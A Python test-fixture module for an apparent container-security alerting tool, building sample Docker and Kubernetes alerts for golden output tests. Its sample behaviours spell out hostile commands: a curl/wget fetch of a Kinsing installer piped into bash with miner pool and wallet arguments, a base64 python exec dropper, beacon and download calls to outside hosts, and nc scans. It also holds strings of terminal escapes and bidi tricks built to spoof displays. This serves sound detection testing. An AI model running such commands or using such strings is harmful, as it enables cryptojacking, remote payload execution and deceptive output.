"""Makes the alerts that the golden files of the outputs show."""

from tidewaiter.alert import (
    Alert,
    BehaviourShown,
    CreatedBy,
    Evidence,
    ImageIdentity,
    PulledBy,
    TrustShown,
    Workload,
    format_time,
    stable_id,
)

START_NS = 1_790_000_003_000_000_000
"""2026-09-21T14:13:23Z: when the containers of the samples start."""
CONTAINER = "3ad7b26ded6d" + "0f" * 26
CONFIG = "sha256:" + "c4" * 32
INDEX = "sha256:" + "1d" * 32


def at(seconds: float) -> str:
    """The time so long after the start."""
    return format_time(START_NS + round(seconds * 1e9))


def behaviour(
    seconds: float,
    what: str,
    kind: str = "exec",
    reason: str = "suspicious_binary",
    strength: str = "strong",
    attribution: str = "container",
    name: str | None = None,
    protocol: str | None = None,
) -> BehaviourShown:
    """One behaviour so long after the start."""
    return BehaviourShown(
        kind=kind,  # type: ignore[arg-type]  # the literals, as plain text
        strength=strength,  # type: ignore[arg-type]
        what=what,
        time=at(seconds),
        attribution=attribution,  # type: ignore[arg-type]
        name=name,
        protocol=protocol,
        reason=reason,
    )


def seen(shown: BehaviourShown, source: str, record: str) -> Evidence:
    """The record that a behaviour was read from."""
    return Evidence("behaviour", shown.time, source, record, shown.what)


def docker_alert() -> Alert:
    """One Docker host, nothing of Kubernetes, nobody named: the usual poor telemetry."""
    ran = behaviour(16.4, "/usr/bin/curl -fsSL http://203.0.113.7/x --token ***")
    reached = behaviour(17.02, "203.0.113.7:80", "egress", "external_egress", protocol="tcp")
    shell = behaviour(18, "/bin/sh -c x")
    return Alert(
        id=stable_id("docker"),
        analytic="AN0691",
        technique="T1204.003",
        verdict="alert",
        severity="high",
        confidence="high",
        title=f"Untrusted image evil.example/x:latest ran {ran.what}",
        time=ran.time,
        cluster="default",
        node="n1",
        container_id=CONTAINER,
        container_name="quick_swartz",
        namespace=None,
        pod=None,
        workload=None,
        image=ImageIdentity(reference="evil.example/x:latest", config_digest=CONFIG),
        digest_consistency="proven",
        trust=TrustShown("untrusted", "default", ("evil.example/x",)),
        pulled_by=PulledBy(),
        created_by=CreatedBy(),
        evidence=(
            Evidence(
                "pull", at(-3), "containerd_journal", "f.jsonl:1", "pulled evil.example/x:latest (same config digest)"
            ),
            Evidence("create", at(-1), "docker_events", "f.jsonl:2", "container created from evil.example/x:latest"),
            Evidence("start", at(0), "docker_events", "f.jsonl:3", "container started"),
            seen(ran, "falco", "f.jsonl:4"),
            seen(reached, "tetragon", "f.jsonl:5"),
            seen(shell, "auditd", "f.jsonl:6"),
        ),
        behaviours=(ran, reached, shell),
        behaviours_omitted=0,
        reasons=(
            "trust: untrusted by rule default",
            f"suspicious_binary: {ran.what} (strong)",
            f"external_egress: {reached.what} (strong)",
            f"suspicious_binary: {shell.what} (strong)",
        ),
        missing=(
            "image config: entrypoint, command and health check unknown",
            "who: creator not named in the telemetry",
        ),
        incident=stable_id("incident"),
    )


def kubernetes_alert() -> Alert:
    """A privileged pod with everything known, twenty behaviours, and command lines longer than any terminal."""
    fetch = (
        "sh -c (curl -fsSL http://203.0.113.7/payloads/linux-amd64/kinsing-installer.sh || wget -qO- "
        "http://203.0.113.7/payloads/linux-amd64/kinsing-installer.sh) | base64 -d | bash -s -- --pool "
        "stratum+tcp://pool.c2.example:3333 --wallet 4" + "8Zq9" * 23 + " --threads 8 --background --donate-level 1"
    )
    dropper = "python3 -c exec(__import__('base64').b64decode('" + "aW1wb3J0IG9zCg" * 50 + "'))"
    did = [
        (behaviour(2.31, fetch), "tetragon", "node-7/tetragon.log.gz:88213"),
        (behaviour(2.33, fetch), "falco", "falco.jsonl:90211"),
        (
            behaviour(2.9, "203.0.113.7:80", "egress", "external_egress", protocol="tcp"),
            "tetragon",
            "node-7/tetragon.log.gz:88219",
        ),
        (behaviour(4, dropper), "tetragon", "node-7/tetragon.log.gz:88240"),
        (
            behaviour(6, "/usr/share/.X11-unix/kdevtmpfsi", "drift", "written_binary"),
            "tetragon",
            "node-7/tetragon.log.gz:88251",
        ),
        (
            behaviour(
                8.5, "[2001:db8:bad::5]:443", "egress", "external_egress", name="pool.c2.example", protocol="tcp"
            ),
            "hubble",
            "hubble.jsonl:12",
        ),
        (
            behaviour(9, "169.254.169.254:80", "egress", "control_plane_egress", protocol="tcp"),
            "hubble",
            "hubble.jsonl:13",
        ),
        (
            behaviour(21, "198.51.100.23:53", "egress", "external_egress", "weak", "pod", protocol="udp"),
            "vpc_flow",
            "vpc-flow-2026-09-21T14.log.gz:1288731",
        ),
        (
            behaviour(125, "jane@corp.example attached: bash", "session", "interactive_session", "weak"),
            "kubernetes_audit",
            "audit.log:4410",
        ),
    ]
    did += [
        (
            behaviour(30 + 10 * n, "/usr/bin/curl -s http://203.0.113.7/beat"),
            "tetragon",
            f"node-7/tetragon.log.gz:{89000 + n}",
        )
        for n in range(8)
    ]
    did += [
        (behaviour(200 + n, f"nc -z 10.0.{n}.1 6443"), "tetragon", f"node-7/tetragon.log.gz:{89900 + n}")
        for n in range(3)
    ]
    policy = behaviour(-2, "scope never-from-internet forbids privileged", "policy", "policy_broken", "weak")
    shown = [b for b, _, _ in did]
    return Alert(
        id=stable_id("kubernetes"),
        revision=3,
        final=False,
        analytic="AN0691",
        technique="T1204.003",
        verdict="alert",
        severity="critical",
        confidence="medium",
        title=f"Untrusted image docker.io/alpineos/node-exporter:latest ran {fetch}",
        time=shown[0].time,
        cluster="prod-eu-1",
        node="ip-10-0-7-41.eu-west-1.compute.internal",
        container_id=CONTAINER,
        container_name="exporter",
        namespace="monitoring",
        pod="node-exporter-7d9c94f6b5-x2x7q",
        workload=Workload("Deployment", "node-exporter"),
        image=ImageIdentity(
            reference="docker.io/alpineos/node-exporter:latest",
            index_digest=INDEX,
            config_digest=CONFIG,
            chain_id="sha256:" + "5e" * 32,
        ),
        digest_consistency="by_name",
        trust=TrustShown(
            "untrusted", "squatters", ("docker.io/alpineos/node-exporter", "mirror.example/cache/node-exporter")
        ),
        pulled_by=PulledBy(source_ip="192.0.2.41", user_agent="containerd/v1.7.22"),
        created_by=CreatedBy(
            "jane@corp.example",
            ("system:authenticated", "platform-oncall"),
            "198.51.100.4",
            "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
            "kubernetes",
        ),
        evidence=(
            Evidence(
                "workload",
                at(-9),
                "kubernetes_audit",
                "audit.log:4101",
                "Deployment monitoring/node-exporter created by jane@corp.example",
            ),
            Evidence(
                "pod",
                at(-8.8),
                "kubernetes_audit",
                "audit.log:4107",
                "pod monitoring/node-exporter-7d9c94f6b5-x2x7q requested",
            ),
            Evidence(
                "pull",
                at(-3.2),
                "containerd_journal",
                "node-7/containerd.log:551",
                "pulled docker.io/alpineos/node-exporter:latest by 192.0.2.41 (same name)",
            ),
            Evidence("create", at(-0.42), "containerd_events", "node-7/ctr-events.log:77", "container created"),
            Evidence("start", at(0), "containerd_events", "node-7/ctr-events.log:79", "container started"),
            Evidence("session", at(125), "kubernetes_audit", "audit.log:4410", "attached by jane@corp.example: bash"),
            *(seen(*entry) for entry in did),
        ),
        behaviours=(policy, *shown),
        behaviours_omitted=1204,
        reasons=(
            "trust: untrusted by rule squatters",
            *(f"{b.reason}: {b.what} (strong)" for b in shown[:4]),
            "exposed: privileged, host pid namespace",
        ),
        missing=("image config: entrypoint, command and health check unknown",),
        incident=stable_id("incident"),
    )


def suspicious_alert() -> Alert:
    """A strong behaviour long after the start, on an image whose origin nobody can name."""
    late = behaviour(4511, "/usr/bin/wget -qO /tmp/a http://198.51.100.9/a")
    return Alert(
        id=stable_id("suspicious"),
        analytic="AN0691",
        technique="T1204.003",
        verdict="suspicious",
        severity="medium",
        confidence="low",
        title=f"Image of unknown origin build-cache:dev ran {late.what}",
        time=late.time,
        cluster="default",
        node="build-3",
        container_id="c1",
        container_name=None,
        namespace=None,
        pod=None,
        workload=None,
        image=ImageIdentity(reference="build-cache:dev"),
        digest_consistency="unknown",
        trust=TrustShown("unknown", "no-origin", ()),
        pulled_by=PulledBy(),
        created_by=CreatedBy(user="ci", via="docker"),
        evidence=(
            Evidence("create", at(-1), "docker_events", "-:8", "container created from build-cache:dev"),
            Evidence("start", at(0), "docker_events", "-:9", "container started"),
            seen(late, "laurel", "audit.jsonl:71"),
        ),
        behaviours=(late,),
        behaviours_omitted=0,
        reasons=(
            "trust: unknown by rule no-origin",
            "origin: the image was built on this node",
            f"suspicious_binary: {late.what} (strong)",
            "late: the strong behaviour is outside the window of 900 s",
        ),
        missing=(
            "pull: none seen on this node before the container was created",
            "image content: config digest unknown",
        ),
        incident=stable_id("other incident"),
    )


def withdrawn_alert() -> Alert:
    """A later record showed that the image is trusted after all; no behaviour is left to speak of."""
    return Alert(
        id=stable_id("docker"),
        revision=2,
        final=False,
        analytic="AN0691",
        technique="T1204.003",
        verdict="withdrawn",
        severity="informational",
        confidence="low",
        title="",
        time=format_time(0),
        cluster="default",
        node="n1",
        container_id=CONTAINER,
        container_name="quick_swartz",
        namespace=None,
        pod=None,
        workload=None,
        image=ImageIdentity(reference="registry.corp.example/shop/web:1.4", config_digest=CONFIG),
        digest_consistency="proven",
        trust=TrustShown("trusted", "ours", ("registry.corp.example/shop/web",)),
        pulled_by=PulledBy(),
        created_by=CreatedBy(),
        evidence=(Evidence("start", at(0), "docker_events", "f.jsonl:3", "container started"),),
        behaviours=(),
        behaviours_omitted=0,
        reasons=("trust: trusted by rule ours",),
        missing=(),
        incident=stable_id("incident"),
    )


def hostile_alert() -> Alert:
    """Every text an attacker can choose holds something that moves the cursor, turns the text or hides."""
    bad = (
        "\x1b]0;owned\x07\x1b[2J\x1b[31mall is well\x1b[0m\r\n\t\x00\x7f\x9b1m "
        "\u202egpj.exe\u202c \u2066x\u2069 \u200b\u2028\ud800\U000e0041e\u0301\u3164"
    )
    ran = behaviour(1, f"/bin/sh -c {bad}", name=bad, protocol=bad, reason=bad)
    return Alert(
        id=bad,
        analytic=bad,
        technique=bad,
        verdict="alert",
        severity="high",
        confidence="low",
        title=f"Untrusted image {bad}",
        time=ran.time,
        cluster=bad,
        node=bad,
        container_id=bad,
        container_name=bad,
        namespace=bad,
        pod=bad,
        workload=Workload(bad, bad),
        image=ImageIdentity(bad, bad, bad, bad, bad),
        digest_consistency="conflicting",
        trust=TrustShown("unknown", bad, (bad, bad)),
        pulled_by=PulledBy(bad, bad, bad),
        created_by=CreatedBy(bad, (bad,), bad, bad, bad),
        evidence=(Evidence(bad, None, bad, bad, bad), seen(ran, bad, bad)),
        behaviours=(ran, behaviour(2, bad * 40, "egress", name=bad)),
        behaviours_omitted=1,
        reasons=(bad,),
        missing=(bad,),
        incident=bad,
    )
